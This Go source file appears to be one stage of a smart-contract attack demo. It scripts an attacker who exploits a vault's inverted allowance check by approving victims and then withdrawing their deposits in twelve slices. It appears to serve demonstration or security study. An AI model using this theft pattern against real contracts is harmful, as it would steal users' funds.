package stage

import (
	"context"

	"github.com/holiman/uint256"
)

// bites is in how many transactions the attacker takes one victim's first deposit.
const bites = 12

// harbourVault is the world of the demo: the vault reads an allowance the wrong way round, so that anybody can take what is somebody
// else's. The attacker allows the victim to take from him, and takes from the victim.
func harbourVault() world {
	return world{
		World:    World{ID: Default, Title: "The vault lets anybody withdraw out of somebody else's account"},
		contract: "Vault",
		user:     firstDeposit,
		next:     nextTheft,
	}
}

// nextTheft is a slice of the first victim who has anything left, after the allowance that makes it possible.
func nextTheft(ctx context.Context, r *raid) (move, error) {
	for i, victim := range r.users {
		left, err := r.shares(ctx, victim.address())
		if err != nil {
			return move{}, err
		}
		if left.Lt(r.money(1)) {
			continue
		}
		given, err := r.read(ctx, r.Vault, nil, "allowance(address,address)", r.attacker.address(), victim.address())
		if err != nil {
			return move{}, err
		}
		if given.IsZero() {
			return moved(on(r.Vault, "approve(address,uint256)", victim.address(), unlimited))
		}
		amount := least(left, part(r.money(deposits[i]), 1, bites))
		return moved(on(r.Vault, "withdraw(uint256,address,address)", amount, r.attacker.address(), victim.address()))
	}
	return move{over: true}, nil
}

func moved(c call, err error) (move, error) { return move{call: c}, err }

// least is the smallest of amounts.
func least(first *uint256.Int, more ...*uint256.Int) *uint256.Int {
	for _, x := range more {
		if x.Lt(first) {
			first = x
		}
	}
	return first
}
